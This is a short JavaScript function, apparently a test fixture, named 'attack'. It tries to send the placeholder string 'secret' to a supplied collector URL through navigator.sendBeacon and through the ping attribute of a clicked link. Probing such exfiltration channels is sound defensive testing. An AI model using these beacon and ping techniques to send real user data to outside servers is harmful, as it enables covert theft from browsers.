const attack = ({ collector }) => {
  navigator.sendBeacon(`${collector}/beacon`, "secret");
  const link = document.createElement("a");
  link.ping = `${collector}/ping`;
  link.href = "#here";
  link.click();
  return "tried";
};
